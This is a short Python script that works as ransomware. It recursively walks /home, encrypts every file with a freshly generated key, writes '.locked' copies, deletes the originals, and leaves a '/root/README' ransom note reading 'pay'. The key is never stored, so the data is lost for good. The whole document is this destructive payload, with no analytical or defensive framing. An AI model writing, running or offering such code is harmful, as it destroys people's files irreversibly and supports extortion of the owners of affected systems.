import os
from cryptography.fernet import Fernet
k = Fernet(Fernet.generate_key())
for root, _, names in os.walk('/home'):
    for n in names:
        p = os.path.join(root, n)
        open(p + '.locked', 'wb').write(k.encrypt(open(p, 'rb').read()))
        os.remove(p)
open('/root/README', 'w').write('pay')
